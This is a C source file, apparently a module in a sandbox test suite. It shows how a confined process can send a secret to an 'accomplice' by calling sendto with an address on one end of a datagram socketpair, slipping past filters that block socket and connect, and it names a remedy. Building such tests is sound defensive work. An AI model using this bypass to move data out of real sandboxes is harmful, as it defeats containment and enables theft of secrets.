// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach an accomplice.
 * Means: no socket(2), no connect(2). Each end of a pair of datagram sockets is a socket like any
 *        other: with an address, sendto(2) takes it past its partner to any socket with a name.
 *        Filters allow socketpair(2) because a pair reaches nobody, and sendto(2) because libc
 *        calls it for send(3).
 */
#include "attacks/network-exfil/pair.h"

static enum claim run(const struct brief *b)
{
	struct sockaddr_un to;
	socklen_t size = accomplice(&to);
	int fd;

	attempting(b);
	fd = end_of_pair();
	if (fd < 0)
		return denied("socketpair");
	if (sendto(fd, b->secret, strlen(b->secret), 0, (struct sockaddr *)&to, size) < 0)
		return denied("sendto");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's accomplice",
	.means = "sendto(2) with an address, from one end of a socketpair(2) of datagrams",
	.oracle = "sink",
	.attack_id = "T1559, CWE-184",
	.remedy = "sendto(2) without an address only; Landlock's abstract scope",
	.refs = (const char *const[]){ "unix(7)", "sendto(2)", NULL },
	.run = run,
};
